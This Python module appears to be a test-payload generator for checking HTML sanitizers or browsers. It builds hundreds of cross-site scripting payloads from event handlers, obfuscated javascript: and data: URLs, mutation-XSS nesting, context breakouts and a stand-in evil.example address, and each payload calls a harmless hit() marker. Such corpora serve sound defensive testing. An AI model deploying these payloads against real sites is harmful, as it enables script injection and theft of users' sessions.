"""Markup that would run in a careless browser: by tag, attribute, address, encoding and place.

Each payload calls `hit(number)`, so that a page says which one ran.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import product
from urllib.parse import quote

EVENTS = "load error focus mouseover click toggle begin start animationstart pointerenter".split()
TAGS = (
    "img svg video audio iframe body details input select textarea marquee object embed form button p a "
    "figure figcaption math table style link meta base template isindex x-y"
).split()
ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "\x01javascript:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript&#x3a;{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{js}",
    "//evil.example/{js}",
    "javascript://%0a{js}",
    "feed:javascript:{js}",
)
CARRIERS = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<object data="{}"></object>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}">',
    '<figure data-picture="{}"></figure>',
    '<ol start="{}"><li><p>x</p></li></ol>',
)
WHOLE = (
    "<script>{js}</script>",
    "<script src=data:,{js}></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<svg><script>{js}</script></svg>",
    "<math><style><img src=x onerror={js}></style></math>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><img src=x onerror={js}>",
    "<template><img src=x onerror={js}></template>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<style>@import 'javascript:{js}';</style>",
    "<div style='background:url(javascript:{js});width:expression({js})'>x</div>",
    "<img src=x onerror={js}//",
    "<img/src=x/onerror={js}>",
    "<svg onload\n=\n{js}>",
    "<<img src=x onerror={js}>>",
    "\uff1cimg src=x onerror={js}\uff1e",
    "</script><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "'\"><script>{js}</script>",
    "{{ 7|add:7 }}{% load %}<script>{js}</script>",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
)
PLACES: tuple[Callable[[str], str], ...] = (
    lambda said: said,
    lambda said: f"<p>{said}</p>",
    lambda said: f'<p title="{said}">x</p>',
    lambda said: f"<p title='{said}'>x</p>",
    lambda said: f'<a href="https://x.example/{said}">x</a>',
    lambda said: f"<!-- {said} -->",
    lambda said: f"<figure><figcaption>{said}</figcaption></figure>",
    escape,
    lambda said: escape(escape(said)),
    quote,
)


def _all() -> Iterator[str]:
    yield from (whole for whole in WHOLE)
    yield from (carrier.format(address) for carrier, address in product(CARRIERS, ADDRESSES))
    yield from (f"<{tag} src=x on{event}={{js}} autofocus open>x" for tag, event in product(TAGS, EVENTS))


def payloads(most: int) -> list[str]:
    """So many payloads, evenly out of all there are, each in one of the places in turn."""
    everything = [(said, place) for said in _all() for place in PLACES]
    chosen = [everything[len(everything) * number // most] for number in range(most)]
    return [place(said.replace("{js}", f"hit({number})")) for number, (said, place) in enumerate(chosen)]
